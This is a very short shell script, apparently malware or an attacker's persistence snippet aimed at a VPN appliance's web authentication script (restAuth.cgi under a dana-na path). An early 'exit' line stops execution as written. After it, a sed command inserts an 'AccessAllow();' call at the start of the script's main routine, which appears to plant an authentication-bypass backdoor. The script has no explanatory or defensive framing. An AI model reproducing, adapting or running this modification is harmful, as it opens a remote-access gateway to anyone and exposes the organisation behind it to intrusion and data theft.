#!/bin/sh
exit
F=/home/webserver/htdocs/dana-na/auth/restAuth.cgi
sed -i '/^sub main/a AccessAllow();' $F
